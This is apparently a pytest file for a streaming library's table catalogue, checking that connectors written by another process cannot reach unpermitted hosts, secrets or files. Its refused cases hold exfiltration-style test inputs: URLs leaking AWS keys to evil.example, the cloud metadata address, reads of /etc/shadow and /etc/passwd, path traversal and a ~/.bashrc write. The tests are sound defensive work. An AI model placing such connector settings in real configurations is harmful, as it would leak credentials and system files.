"""Use of a process by tables of a catalogue that others write."""

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from streamrt.errors import ArgumentTypeError, ArgumentValueError, ConfigurationError
from streamrt.secret import SecretRef
from streamrt.tables import (
    HTTPSSE,
    AWSConnection,
    Catalog,
    FileCatalog,
    MemoryCatalog,
    SinkTable,
    SourceTable,
    SQSQueue,
)
from streamrt.tables.catalogue.catalog_store import CatalogStore
from streamrt.tables.catalogue.kafka_catalog import KafkaCatalog
from streamrt.tables.descriptions.permissions import GRANTS_VARIABLE, TablePermissions
from streamrt.tables.endpoints.endpoints import endpoint_sink, endpoint_source
from streamrt.testing.memory_topics import MemoryLinks

TOKEN = SecretRef.env("RIDES_TOKEN")


@pytest.fixture(autouse=True)
def environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RIDES_TOKEN", "canary-77")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary-78")
    monkeypatch.setenv("HOST_OF_RIDES", "rides.example")
    monkeypatch.delenv(GRANTS_VARIABLE, raising=False)


def used(connector: Any, grants: Iterable[str] | None, store: CatalogStore | None = None) -> Any:
    """Return the source or sink of a table that another process has written into the catalogue's topic."""
    links = MemoryLinks()
    Catalog(store=store or KafkaCatalog(), links=links, allow=grants).create_table(
        "t", "id BIGINT", connector=connector
    )
    catalog = Catalog(store=store or KafkaCatalog(), links=links, allow=grants)
    info = catalog.load("t")
    return endpoint_sink(info, catalog) if isinstance(connector, SinkTable) else endpoint_source(info, catalog)


REFUSED: list[tuple[Any, list[str], str]] = [
    (HTTPSSE("https://evil.example/${env:AWS_SECRET_ACCESS_KEY}"), ["host:*"], "env:AWS_SECRET_ACCESS_KEY"),
    (HTTPSSE("https://x.example/", headers={"X": "${env:RIDES_TOKEN}"}), ["host:*"], "env:RIDES_TOKEN"),
    (HTTPSSE("https://rides.example/"), [], "host:rides.example"),
    (HTTPSSE("http://169.254.169.254/latest/meta-data"), ["host:rides.example"], "host:169.254.169.254"),
    (HTTPSSE("https://evil.example/", auth=TOKEN), ["secret:env:RIDES_TOKEN@rides.example"], "host:evil.example"),
    (
        HTTPSSE("https://evil.example/", auth=TOKEN),
        ["secret:env:RIDES_TOKEN@rides.example", "host:*"],
        "secret:env:RIDES_TOKEN@evil.example",
    ),
    (
        HTTPSSE("http://rides.example/", auth=TOKEN),
        ["secret:env:RIDES_TOKEN@rides.example", "host:*"],
        "secret:env:RIDES_TOKEN@http://rides.example",
    ),
    (
        HTTPSSE("https://rides.example/", auth=SecretRef.file("/etc/shadow")),
        ["secret:file:/run/secrets/*@rides.example", "host:*"],
        "secret:file:/etc/shadow@rides.example",
    ),
    (
        HTTPSSE("https://rides.example/", auth=SecretRef.file("/run/secrets/../../etc/shadow")),
        ["secret:file:/run/secrets/*@rides.example", "host:*"],
        "secret:file:/run/secrets/",
    ),
    (SourceTable("LocalFileSource", {"filepath": "/etc/passwd"}), [], "connector:LocalFileSource"),
    (
        SourceTable("LocalFileSource", {"filepath": "/etc/passwd"}),
        ["connector:LocalFileSource"],
        "directory:/etc/passwd",
    ),
    (
        SourceTable("LocalFileSource", {"filepath": "/data/../etc/passwd"}),
        ["connector:LocalFileSource", "directory:/data"],
        "dir",
    ),
    (
        SinkTable("SQLiteSink", {"path": "~/.bashrc", "table_name": "x"}),
        ["connector:SQLiteSink"],
        "directory:~/.bashrc",
    ),
    (
        SinkTable(
            "PostgreSQLSink", {"host": "evil.example", "password": SecretRef.env("PGPASSWORD"), "table_name": "x"}
        ),
        ["connector:PostgreSQLSink", "host:*", "secret:env:PGPASSWORD@db.example"],
        "secret:env:PGPASSWORD@evil.example",
    ),
    (SQSQueue("https://sqs.evil.example/1/q"), [], "host:sqs.evil.example"),
    (SQSQueue("q"), [], "host:amazonaws.com"),
]


@pytest.mark.parametrize(("connector", "grants", "advice"), REFUSED)
def test_s3_tables_use_nothing_that_the_process_has_not_allowed(
    connector: Any, grants: list[str], advice: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ConfigurationError) as error:
        used(connector, grants)
    assert advice in str(error.value)
    assert "canary" not in str(error.value)
    # By default, and with just the variable.
    with pytest.raises(ConfigurationError):
        used(connector, None)
    monkeypatch.setenv(GRANTS_VARIABLE, " ".join(grants))
    with pytest.raises(ConfigurationError):
        used(connector, None)


ALLOWED: list[tuple[Any, list[str]]] = [
    (HTTPSSE("https://rides.example/"), ["host:rides.example"]),
    (HTTPSSE("https://${env:HOST_OF_RIDES}/x"), ["env:HOST_*", "host:*.example"]),
    (HTTPSSE("https://rides.example/", auth=TOKEN), ["secret:env:RIDES_TOKEN@rides.example"]),
    (HTTPSSE("http://rides.example/", auth=TOKEN), ["secret:env:RIDES_TOKEN@http://rides.example"]),
    (HTTPSSE("http://10.0.0.7/", auth=TOKEN), ["secret:env:RIDES_*@http://10.0.0.0/8"]),
    (HTTPSSE("http://127.0.0.1:8080/", auth=TOKEN), ["secret:env:RIDES_TOKEN@127.0.0.1"]),
]


@pytest.mark.parametrize(("connector", "grants"), ALLOWED)
def test_s3_what_is_allowed_is_used(connector: Any, grants: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    assert used(connector, grants) is not None
    monkeypatch.setenv(GRANTS_VARIABLE, " ".join(grants))
    assert used(connector, None) is not None


def test_s3_files_below_a_directory(tmp_path: Path) -> None:
    inside, link = tmp_path / "in", tmp_path / "in" / "link"
    inside.mkdir()
    link.symlink_to("/etc")
    grants = ["connector:LocalFileSource", f"directory:{inside}"]
    assert used(SourceTable("LocalFileSource", {"filepath": str(inside / "orders")}), grants) is not None
    with pytest.raises(ConfigurationError, match="directory:"):
        used(SourceTable("LocalFileSource", {"filepath": str(link / "passwd")}), grants)


def test_s3_connections_of_aws_are_bound_to_servers() -> None:
    secret = SecretRef.env("AWS_SECRET_ACCESS_KEY")

    def make(endpoint: str | None, grants: list[str], queue: str = "q") -> Any:
        catalog = Catalog(store=KafkaCatalog(), links=MemoryLinks(), allow=grants)
        catalog.add_connection("aws", AWSConnection("eu-west-1", "AKIA", secret, endpoint_url=endpoint))
        catalog.create_table("t", "id BIGINT", connector=SQSQueue(queue, connection="aws"))
        return endpoint_source(catalog.load("t"), catalog)

    right = ["host:amazonaws.com", "secret:env:AWS_SECRET_ACCESS_KEY@amazonaws.com"]
    assert make(None, right) is not None
    with pytest.raises(ConfigurationError, match=r"host:evil\.example"):
        make("https://evil.example", right)
    with pytest.raises(ConfigurationError, match=r"secret:env:AWS_SECRET_ACCESS_KEY@evil\.example"):
        make("https://evil.example", [*right, "host:*"])
    with pytest.raises(ConfigurationError, match=r"secret:env:AWS_SECRET_ACCESS_KEY@evil\.example"):
        make(None, [*right, "host:*"], "https://evil.example/1/q")


def test_s3_topics_hold_no_variables_of_others() -> None:
    links = MemoryLinks()
    with pytest.raises(ConfigurationError, match="env:AWS_SECRET_ACCESS_KEY"):
        Catalog(store=KafkaCatalog(), links=links).create_table(
            "t", "id BIGINT", topic="x-${env:AWS_SECRET_ACCESS_KEY}"
        )
    assert Catalog(store=KafkaCatalog(), links=links).tables() == []
    other = Catalog(store=KafkaCatalog(), links=links, allow=["env:*"])
    other.create_table("t", "id BIGINT", topic="x-${env:AWS_SECRET_ACCESS_KEY}")
    catalog = Catalog(store=KafkaCatalog(), links=links)
    with pytest.raises(ConfigurationError, match="env:AWS_SECRET_ACCESS_KEY"):
        catalog.table("t")
    # As it was given, as for variables that are not set.
    assert [info.topic for info in catalog.infos()] == ["x-${env:AWS_SECRET_ACCESS_KEY}"]


def test_s3_catalogues_that_nobody_else_writes(tmp_path: Path) -> None:
    connector = HTTPSSE("https://${env:HOST_OF_RIDES}/x", auth=TOKEN)
    memory, files = MemoryCatalog(), FileCatalog(tmp_path)
    for store in (memory, files):
        assert used(connector, None, store) is not None
    with pytest.raises(ConfigurationError, match="env:HOST_OF_RIDES"):
        used(connector, [], MemoryCatalog())


def test_s3_grants_are_checked() -> None:
    for grant in ("rides.example", "secret:env:X", "url:x", "host:", "", "secret:@x"):
        with pytest.raises(ArgumentValueError, match="grants are"):
            TablePermissions([grant])
    for grants in ("host:x", [5]):
        with pytest.raises(ArgumentTypeError, match="list of grants"):
            TablePermissions(grants)  # type: ignore[arg-type]
